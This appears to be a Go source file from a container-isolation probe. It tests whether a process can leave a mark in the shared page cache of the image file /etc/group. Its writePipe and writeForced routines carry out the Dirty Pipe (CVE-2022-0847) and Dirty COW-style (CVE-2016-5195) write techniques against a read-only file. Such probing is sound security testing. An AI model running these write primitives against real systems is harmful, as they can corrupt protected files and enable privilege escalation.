package main

import (
	"os"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

const sharedFile = "/etc/group" // of the image, in the page cache of whoever runs it

// probePageCache tries to change a file of the image where a neighbour, who has the same image, would see it: in the page
// cache, which knows of no overlay. It tells how, and then whether the cache is shared at all. args: the mark to leave.
func probePageCache(args []string) verdict {
	if len(args) != 1 || len(args[0]) > 16 {
		fail("usage: page-cache MARK")
	}
	fd, err := unix.Open(sharedFile, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return verdict{verdict: couldNotTry, detail: sharedFile + " → " + errName(err)}
	}
	defer unix.Close(fd)
	tries := []string{"mmap → " + errName(writeShared(fd, args[0])), "/proc/self/mem → " + errName(writeForced(fd, args[0])),
		"splice → " + errName(writePipe(fd, args[0])), "open → " + errName(writePlain(args[0]))}
	return verdict{verdict: lookOutside, layer: "copy on write", detail: strings.Join(tries, ", "), hold: 3 * time.Second}
}

// writeShared asks for a mapping that can be written of a file that was opened for reading.
func writeShared(fd int, mark string) error {
	mem, err := unix.Mmap(fd, 0, len(mark), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err == nil {
		copy(mem, mark)
		unix.Munmap(mem)
	}
	return err
}

// writeForced writes through /proc/self/mem, which heeds no protection, to a private mapping (CVE-2016-5195).
func writeForced(fd int, mark string) error {
	mem, err := unix.Mmap(fd, 0, len(mark), unix.PROT_READ, unix.MAP_PRIVATE)
	if err != nil {
		return err
	}
	defer unix.Munmap(mem)
	f, err := os.OpenFile("/proc/self/mem", os.O_RDWR, 0)
	if err != nil {
		return unwrapped(err)
	}
	defer f.Close()
	_, err = f.WriteAt([]byte(mark), int64(uintptr(unsafe.Pointer(&mem[0]))))
	return unwrapped(err)
}

// writePipe puts a page of the file into a pipe whose buffers were all used before, and writes behind it: CVE-2022-0847
// wrote into the page.
func writePipe(fd int, mark string) error {
	var p [2]int
	if err := unix.Pipe2(p[:], unix.O_CLOEXEC|unix.O_NONBLOCK); err != nil {
		return err
	}
	defer unix.Close(p[0])
	defer unix.Close(p[1])
	page := make([]byte, 4096)
	for n := 0; n < 256; n++ {
		if _, err := unix.Write(p[1], page); err != nil {
			break
		}
	}
	for {
		if n, err := unix.Read(p[0], page); n <= 0 || err != nil {
			break
		}
	}
	offset := int64(0)
	if _, err := unix.Splice(fd, &offset, p[1], nil, 1, 0); err != nil {
		return err
	}
	_, err := unix.Write(p[1], []byte(mark))
	return err
}

func writePlain(mark string) error {
	f, err := os.OpenFile(sharedFile, os.O_WRONLY, 0)
	if err != nil {
		return unwrapped(err)
	}
	defer f.Close()
	_, err = f.WriteAt([]byte(mark), 0)
	return unwrapped(err)
}

// toolEvict has the kernel forget the pages of a file, and then does what toolResident does.
func toolEvict(args []string) int { return resident(args, true) }

// toolResident prints whether the first page of a file is in memory.
func toolResident(args []string) int { return resident(args, false) }

func resident(args []string, forget bool) int {
	if len(args) != 1 {
		fail("usage: resident FILE")
	}
	fd, err := unix.Open(args[0], unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		fail("resident: " + errName(err))
	}
	if forget {
		unix.Fadvise(fd, 0, 0, unix.FADV_DONTNEED)
	}
	mem, err := unix.Mmap(fd, 0, 4096, unix.PROT_READ, unix.MAP_SHARED)
	if err != nil {
		fail("resident: " + errName(err))
	}
	var page [1]byte
	if _, _, e := unix.Syscall(unix.SYS_MINCORE, uintptr(unsafe.Pointer(&mem[0])), 4096, uintptr(unsafe.Pointer(&page[0]))); e != 0 {
		fail("resident: " + errName(e))
	}
	answer := "absent"
	if page[0]&1 != 0 {
		answer = "resident"
	}
	os.Stdout.WriteString(answer + "\n")
	return 0
}
